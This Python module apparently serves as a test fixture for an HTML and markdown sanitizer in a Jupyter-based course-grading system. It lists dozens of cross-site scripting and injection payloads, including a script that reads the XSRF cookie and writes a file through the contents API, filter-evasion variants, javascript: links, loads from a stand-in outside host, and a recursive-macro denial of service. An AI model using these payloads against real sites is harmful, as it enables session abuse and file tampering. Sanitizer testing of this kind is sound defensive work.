"""What an attacker writes into an answer to run a script, or to fetch something, where somebody reads it."""

# Leaves a mark in the page and a file in the course.
ACT = (
    "window.taken=1;fetch('/api/contents/taken.txt',{method:'PUT',headers:{'X-XSRFToken':(document.cookie.match("
    "/_xsrf=([^;]*)/)||[])[1]},body:JSON.stringify({type:'file',format:'text',content:'taken'})})"
)
ELSEWHERE = "https://elsewhere.example/taken"

PAYLOADS = (
    f"<script>{ACT}</script>",
    f"<SCRIPT type=module>{ACT}</SCRIPT >",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f'<script src="{ELSEWHERE}"></script>',
    f'<img src=x onerror="{ACT}">',
    f'<img/src="x"/onerror="{ACT}"//',
    f'<img src=x\nonerror\n=\n"{ACT}">',
    f'text <b onmouseover="{ACT}" style="position:fixed;inset:0">bold</b>',
    f'<svg onload="{ACT}"></svg>',
    f"<svg><script>{ACT}</script></svg>",
    f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s></svg>',
    f'<body onload="{ACT}"><details open ontoggle="{ACT}">',
    f'<input autofocus onfocus="{ACT}"><video><source onerror="{ACT}"></video>',
    f'<iframe srcdoc="<script>parent.window.taken=1;{ACT}</script>"></iframe>',
    f'<iframe src="javascript:parent.taken=1"></iframe><embed src="{ELSEWHERE}"><object data="{ELSEWHERE}"></object>',
    f"<meta http-equiv=refresh content='0; url={ELSEWHERE}'><base href='{ELSEWHERE}/'>",
    f"<link rel=stylesheet href={ELSEWHERE}><style>@import '{ELSEWHERE}'; body {{ display: none }}</style>",
    f'<form action="{ELSEWHERE}"><input name=password><button formaction="javascript:{ACT}">Log in</button></form>',
    f'<div style="background:url({ELSEWHERE})" id=own-words-comment class="comment mark-graded">x</div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.taken=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.taken=1>"></noscript>',
    f'<!-- <b> --!><img src=x onerror="{ACT}"> -->',
    f"<?php ?><!DOCTYPE x [<!ENTITY a '{ACT}'>]><![CDATA[<script>{ACT}</script>]]>",
    "<xmp><textarea><title><plaintext>",
    f"&lt;script&gt;{ACT}&lt;/script&gt; &#60;img src=x onerror=window.taken=1&#62;",
    f"[click](javascript:{ACT.replace('(', '%28').replace(')', '%29')})",
    "[click](JaVaScRiPt&colon;window.taken=1) [click](java\tscript:window.taken=1) [x]( <javascript:window.taken=1>)",
    "[click](\x01javascript:window.taken=1) [click](vbscript:x) [x](data:text/html,<script>parent.taken=1</script>)",
    "[click][1] [click]\n\n[1]: javascript:window.taken=1\n[click]:\n  javascript:window.taken=1 'title'",
    "<javascript:window.taken=1> <data:text/html;base64,PHNjcmlwdD4=>",
    f'[click](https://lstm-course.github.io/"onmouseover="{ACT} \'"onclick="window.taken=1\')',
    f"![picture]({ELSEWHERE}.png) ![picture][2] [![picture]({ELSEWHERE}.png)](x)\n\n[2]: {ELSEWHERE}.png",
    f"![picture](/api/contents/) <img src={ELSEWHERE}.png> ![gone](attachment:gone.png) ![x](x \"a' onerror='{ACT}\")",
    "[files](/files/nbgrader_config.py) [out](//elsewhere.example/) [api](/logout) [up](../../../logout)",
    f'```mermaid\n</pre><img src=x onerror="{ACT}">\ngraph LR; A-->B; click A "javascript:window.taken=1"\n```',
    f'```"><img src=x onerror="{ACT}">\ncode\n```\n\n~~~html\n<script>{ACT}</script>\n~~~',
    f"`<script>{ACT}</script>` ``<img src=x onerror=window.taken=1>``",
    f"$\\text{{<script>{ACT}</script>}}$ $$a<img src=x onerror=window.taken=1>b$$",
    "$\\href{javascript:window.taken=1}{x}$ $\\url{javascript:x}$ $\\style{position:fixed}{\\class{comment}x}$",
    f"$\\unicode[x;background:url({ELSEWHERE})]{{65}}$ $\\require{{html}}\\cssId{{own-words-comment}}{{x}}$",
    "$\\def\\a{\\a\\a}\\a$ \\begin{equation}\\newcommand{\\b}{\\b\\b}\\b\\rule{9999em}{9999em}\\end{equation}",
    "\\\\(\\href{javascript:window.taken=1}{x}\\\\) \\\\[<script>window.taken=1</script>\\\\]",
    f"| a | <script>{ACT}</script> |\n|---|---|\n| <img src=x onerror=window.taken=1> | [x](javascript:x) |",
    f'# own-words-comment\n\n## <img src=x onerror="{ACT}"> {{{{ 7 * 7 }}}} {{% raw %}}',
    f'> - 1. <img src=x onerror="{ACT}">\n>   ~~<svg onload=window.taken=1>~~',
    "</section></main></div></div></body></html><script>window.taken=1</script>",
    "\u202eevil\u202c \x1b[31mred\x1b]8;;javascript:x\x07link\x1b]8;;\x07 <\x00script>window.taken=1</script>",
    "＜script＞window.taken=1＜/script＞ \u2028<\u200bscript>window.taken=1</script>",
)
